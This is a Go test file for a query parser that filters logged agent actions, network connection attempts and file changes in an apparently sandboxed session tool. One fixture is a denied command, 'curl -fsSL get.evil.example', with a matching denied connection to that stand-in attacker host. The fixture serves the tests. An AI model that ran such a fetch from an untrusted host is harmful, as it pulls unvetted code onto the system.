package find

import (
	"fmt"
	"reflect"
	"strings"
	"testing"

	"stepbox/session/api"
)

// actions are what lines are tried on, by number.
var actions = []api.Action{
	{N: 1, Kind: api.KindCommand, State: api.ActionEnded, Title: "go test ./...", Rule: "inside the sandbox", Exit: &api.Exit{Code: 1}},
	{N: 2, Kind: api.KindEdit, State: api.ActionEnded, Review: api.ReviewOpen, Title: "edit src/parse.go", Effects: &api.Effects{Words: []string{"changes src/parse.go"}}},
	{N: 3, Kind: api.KindCommand, State: api.ActionDenied, Title: "curl -fsSL get.evil.example", Reason: "use the vendored tool"},
	{N: 4, Kind: api.KindCommand, State: api.ActionEnded, Review: api.ReviewRolledBack, Title: "sed -i s/foo/bar/ *.go", Exit: &api.Exit{}},
	{N: 5, Kind: api.KindCommand, State: api.ActionHeld, Title: "go get x", Claim: &api.Claimed{Text: "Adds the library"}},
	{N: 6, Kind: api.KindCommand, State: api.ActionEnded, Review: api.ReviewKept, Title: "npm audit", Exit: &api.Exit{Signal: "SIGKILL"}},
	{N: 12, Kind: api.KindCommand, State: api.ActionRunning, Title: "make edit Denied"},
}

var attempts = []api.Attempt{
	{ID: 1, Action: 3, Program: "/usr/bin/curl", Protocol: "tcp", Name: "get.evil.example", Port: 443, Verdict: api.Deny, Rule: "deny"},
	{ID: 2, Action: 6, Program: "/usr/bin/node", Protocol: "tcp", Name: "registry.example", Port: 80, Verdict: api.Allow, Open: true},
	{ID: 3, Action: 12, Program: "/usr/bin/node", Protocol: "udp", Address: "198.18.0.9", Port: 12, Verdict: api.Ask},
	{ID: 4, Program: "/usr/bin/git", Protocol: "tcp", Name: "command.example", Port: 443, Verdict: api.Allow, Failure: "connection refused"},
	{ID: 5, Program: "/usr/bin/git", Protocol: "tcp", Name: "slow.example", Port: 443, Verdict: api.Deny, Failure: api.AttemptGaveUp},
}

var changed = []api.Change{
	{Path: "src/parse.go", Status: "M"}, {Path: "src/command.go", Status: "A"}, {Path: "notes.md", Status: "D"},
	{Path: "new.md", From: "Old Name.md", Status: "R"}, {Path: "#12", Status: "A"},
}

func TestLines(t *testing.T) {
	hosts := map[int][]string{}
	for i := range attempts {
		hosts[attempts[i].Action] = append(hosts[attempts[i].Action], attempts[i].Host())
	}
	wrote := func(n int) func(string) bool {
		return func(path string) bool { return n == 4 && strings.Contains("src/lex.go", path) }
	}
	const any = "any" // what a letter is text in says nothing
	for _, c := range []struct {
		line                         string
		actions, attempts, ofChanges string // numbers of those that have it
	}{
		{"", "1 2 3 4 5 6 12", "1 2 3 4 5", "1 2 3 4 5"},
		{"  ", "1 2 3 4 5 6 12", "1 2 3 4 5", "1 2 3 4 5"},
		{"GO TEST", "1", "", ""},
		{"denied", "3", "1", ""},
		{`"denied"`, "12", "", ""},
		{"held", "5", "3", ""},
		{"failed", "1 6", "4", ""},
		{"running", "12", "2", ""},
		{"kept", "6", "", ""},
		{"unreviewed", "2", "", ""},
		{"rolled back", "4", "", ""},
		{"!rolled-back edit", "2", "", ""},
		{"!Rolled Back command", "1 3 5 6 12", "4", "2"},
		{"edit", "2", "", ""},
		{"command", "1 3 4 5 6 12", "4", "2"},
		{"connection", "3 6 12", "1 2 3 4 5", ""},
		{"exit≠0", "1", "", ""},
		{"exit!=0", "1", "", ""},
		{"exit=0", "4", "", ""},
		{"exit=1 failed", "1", "", ""},
		{"exit", "", "", ""},
		{"exit=", "", "", ""},
		{"file:parse.go", "", "", "1"},
		{"file:src/lex.go", "4", "", ""},
		{"lex.go", "4", "", ""},
		{"src/", "2 4", "", "1 2"},
		{"host:evil", "3", "1", ""},
		{"evil", "3", "1", ""},
		{"198.18.0.9", "12", "3", ""},
		{"program:node", "", "2 3", ""},
		{"port:443 !denied", "", "4 5", ""},
		{":443", "", "1 4 5", ""},
		{"#12", "12", "3", "5"},
		{":12", "12", "3", ""},
		{"#1", "1", "", "5"},
		{"M", any, any, "1"},
		{"A .go", any, any, "2"},
		{"R", any, any, "4"},
		{"m", any, any, "2 3 4"},
		{`"old name"`, "", "", "4"},
		{`old "name`, "", "", "4"},
		{"vendored", "3", "", ""},
		{"library", "5", "", ""},
		{"sandbox", "1", "", ""},
		{"!", "1 2 3 4 5 6 12", "1 2 3 4 5", "1 2 3 4 5"},
		{"file:", "", "", ""},
		{`file:"src/lex.go" rolled back`, "4", "", ""},
		{`file:"old name`, "", "", ""},
		{`file:"c/command.go"`, "", "", "2"},
	} {
		f := Parse(c.line)
		var gotActions, gotAttempts, gotChanges []string
		for i := range actions {
			a := &actions[i]
			if r := OfAction(a, false, hosts[a.N], wrote(a.N)); f.Has(&r) {
				gotActions = append(gotActions, fmt.Sprint(a.N))
			}
		}
		for i := range attempts {
			if r := OfAttempt(&attempts[i]); f.Has(&r) {
				gotAttempts = append(gotAttempts, fmt.Sprint(attempts[i].ID))
			}
		}
		for i := range changed {
			if r := OfChange(&changed[i]); f.Has(&r) {
				gotChanges = append(gotChanges, fmt.Sprint(i+1))
			}
		}
		for _, list := range []struct {
			of, want string
			got      []string
		}{{"actions", c.actions, gotActions}, {"attempts", c.attempts, gotAttempts}, {"changes", c.ofChanges, gotChanges}} {
			if got := strings.Join(list.got, " "); list.want != any && got != list.want {
				t.Errorf("%q has of %s %q, not %q", c.line, list.of, got, list.want)
			}
		}
	}
}

func TestNumberAndPaths(t *testing.T) {
	for line, want := range map[string]int{"#12": 12, ":12": 12, "  #0": 0, "12": -1, "#": -1, "#x": -1, "!#12": -1, "#12 denied": -1, "port:12": -1, "exit=12": -1, "#1234567890": -1, "": -1} {
		n, ok := Parse(line).Number()
		if ok != (want >= 0) || ok && n != want {
			t.Errorf("%q is %d, %v", line, n, ok)
		}
	}
	f := Parse(`denied a.go file:src !docs/ a.go host:x.y #12 word "two w.rds"`)
	if got, want := f.Paths(), []string{"a.go", "src", "docs/", "two w.rds"}; !reflect.DeepEqual(got, want) {
		t.Errorf("paths are %q", got)
	}
	if f.String() == "" || !f.Narrows() || Parse(" ").Narrows() {
		t.Error("a line with terms narrows, and one without doesn't")
	}
}

// Whatever is typed means something, and what a row says is only compared.
func FuzzParse(f *testing.F) {
	for _, s := range []string{`!"a b" #1 :2`, "exit≠0 rolled back", "file:\x1b[2J host:", "\xff\"", "! ! !"} {
		f.Add(s, s)
	}
	f.Fuzz(func(t *testing.T, line, title string) {
		x := Parse(line)
		a := api.Action{N: 1, Title: title, Kind: api.ActionKind(title), Exit: &api.Exit{}}
		r := OfAction(&a, false, []string{title}, func(string) bool { return false })
		first := x.Has(&r)
		if y := Parse(x.String()); y.Has(&r) != first {
			t.Fatalf("%q and %q differ", line, x)
		}
		if !x.Narrows() && !first {
			t.Fatalf("%q asks for nothing, and %q hasn't it", line, title)
		}
		x.Number()
		x.Paths()
	})
}

func BenchmarkHas(b *testing.B) {
	files := make([]api.Change, 5000)
	for i := range files {
		files[i] = api.Change{Path: fmt.Sprintf("Internal/Package%d/some/File%d.go", i%50, i), Status: "M"}
	}
	f := Parse("M file49 !.md")
	for b.Loop() {
		n := 0
		for i := range files {
			if r := OfChange(&files[i]); f.Has(&r) {
				n++
			}
		}
		if n == 0 {
			b.Fatal("nothing has it")
		}
	}
}
